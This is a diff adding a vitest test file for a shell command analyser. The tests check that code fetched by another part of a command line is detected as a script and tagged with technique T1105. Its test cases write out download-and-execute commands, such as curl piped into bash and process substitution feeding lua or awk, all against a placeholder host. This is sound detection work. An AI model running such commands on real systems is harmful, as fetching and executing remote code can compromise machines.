@@ -1,0 +1,34 @@
+import { describe, expect, it } from "vitest";
+import { testCatalog } from "../../../test/support/events.ts";
+import { resolve } from "../resolve.ts";
+
+/** What each behaviour runs, with its techniques. */
+function running(commandLine: string) {
+  const { invocations } = resolve({ commandLine, platform: "linux" }, testCatalog());
+  return invocations.flatMap(({ behaviours }) =>
+    behaviours.flatMap(({ runs, techniques, behaviour }) =>
+      runs.map(({ value, what }) => ({ value, what, usual: behaviour.usual, techniques })),
+    ),
+  );
+}
+
+describe("what another command of the line fetches is what runs", () => {
+  it.each([
+    ["in the place of a file", "lua <(curl -s http://h.example/a)"],
+    ["in the place of an option's file", "awk -f <(wget -qO- http://h.example/a) /etc/hosts"],
+    ["in the place of code", 'awk "$(curl -s http://h.example/a)"'],
+    ["in the place of code, between back-ticks", 'lua -e "`curl -s http://h.example/a`"'],
+    ["behind an editor of streams", "curl http://h.example/a | sed 's/x/y/' | bash"],
+    ["behind code that stands in the words", "curl http://h.example/a | awk '{ print $2 }' | bash"],
+  ])("%s", (_, line) => {
+    const found = running(line).filter(({ value }) => value === "http://h.example/a");
+    expect(found).toMatchObject([{ what: "script" }]);
+    expect(found[0]?.usual).not.toBe("routine");
+    expect(found[0]?.techniques).toContain("T1105");
+  });
+
+  it("nothing is brought where nothing is fetched", () => {
+    expect(running("lua <(cat a.lua)")).toEqual([]);
+    expect(running("ls | awk '{ print $2 }' | sh").map(({ value }) => value)).toEqual(["{ print $2 }"]);
+  });
+});
